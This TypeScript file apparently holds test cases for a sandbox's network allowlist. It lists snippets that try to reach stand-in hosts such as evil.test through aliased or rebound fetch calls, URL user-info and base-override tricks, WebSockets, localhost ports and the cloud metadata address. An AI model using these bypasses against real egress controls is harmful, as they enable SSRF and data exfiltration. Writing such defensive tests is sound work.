import { evasion, type Evasion } from '../evasion.ts'

export const networkEvasions: Evasion[] = [
  evasion('network', 'another host', "await fetch('https://evil.example')\nreturn 'x'"),
  evasion(
    'network',
    'another host through ctx',
    "await ctx.fetch('https://evil.example/x')\nreturn 'x'",
  ),
  evasion(
    'network',
    'a host that begins like a listed one',
    "await ctx.fetch('https://api.example.com.evil.test/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'a listed host as a user name',
    "await ctx.fetch('https://api.example.com@evil.test/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'a host in a template',
    'await ctx.fetch(`https://evil.test/${input.q}`)\nreturn "x"',
  ),
  evasion(
    'network',
    'a host in a constant',
    "const host = 'https://evil.test'\nawait ctx.fetch(host + '/x')\nreturn 'x'",
  ),
  evasion('network', 'a host in parts', "await ctx.fetch('https://ev' + 'il.test/')\nreturn 'x'"),
  evasion(
    'network',
    'a host through a helper',
    "const get = (url: string) => ctx.fetch(url)\nawait get('https://evil.test/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'fetch under another name',
    "const f = ctx.fetch\nawait f('https://evil.test/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'fetch taken apart',
    "const { fetch: f } = ctx\nawait f('https://evil.test/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'fetch in a table',
    "const t = { go: ctx.fetch }\nawait t.go('https://evil.test/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'fetch called with call',
    "await fetch.call(null, 'https://evil.test/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'fetch applied',
    "await fetch.apply(null, ['https://evil.test/'])\nreturn 'x'",
  ),
  evasion('network', 'fetch bound', "await fetch.bind(null)('https://evil.test/')\nreturn 'x'"),
  evasion(
    'network',
    'fetch as a callback',
    "await Promise.all(['https://evil.test/'].map((u) => u).map(fetch as any))\nreturn 'x'",
  ),
  evasion('network', 'fetch after a comma', "await (0, fetch)('https://evil.test/')\nreturn 'x'"),
  evasion(
    'network',
    'a request object',
    "await ctx.fetch(new Request('https://evil.test/'))\nreturn 'x'",
  ),
  evasion(
    'network',
    'a URL object',
    "await ctx.fetch(new URL('/x', 'https://evil.test'))\nreturn 'x'",
  ),
  evasion(
    'network',
    'a URL that overrides its base',
    "await ctx.fetch(new URL('//evil.test/x', 'https://api.example.com'))\nreturn 'x'",
  ),
  evasion(
    'network',
    'a host assigned to a URL',
    "const u = new URL('https://api.example.com')\nu.hostname = 'evil.test'\nawait ctx.fetch(u)\nreturn 'x'",
  ),
  evasion('network', 'a web socket', "new WebSocket('wss://evil.test/')\nreturn 'x'"),
  evasion(
    'network',
    'an address of the machine',
    "await ctx.fetch('http://127.0.0.1:5432/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'the metadata service',
    "await ctx.fetch('http://169.254.169.254/latest')\nreturn 'x'",
  ),
  evasion('network', 'a data URL', "await ctx.fetch('data:text/plain,x')\nreturn 'x'"),
  evasion('network', 'no encryption', "await ctx.fetch('http://api.example.com/')\nreturn 'x'"),
  evasion(
    'network',
    'another port',
    "await ctx.fetch('https://api.example.com:8443/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'the bare domain of a wildcard',
    "await ctx.fetch('https://example.org/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'a host from the caller',
    'await ctx.fetch(`https://${input.q}/`)\nreturn "x"',
  ),
  evasion('network', 'a URL from the caller', 'await ctx.fetch(input.q)\nreturn "x"'),
  evasion(
    'network',
    'one of two hosts',
    "await ctx.fetch(input.q ? 'https://api.example.com/' : 'https://evil.test/')\nreturn 'x'",
  ),
  evasion(
    'network',
    'a table of hosts',
    "const hosts: any = { a: 'https://api.example.com', b: 'https://evil.test' }\nawait ctx.fetch(hosts[input.q])\nreturn 'x'",
  ),
  evasion('network', 'backslashes', "await ctx.fetch('https:\\\\\\\\evil.test\\\\x')\nreturn 'x'"),
]
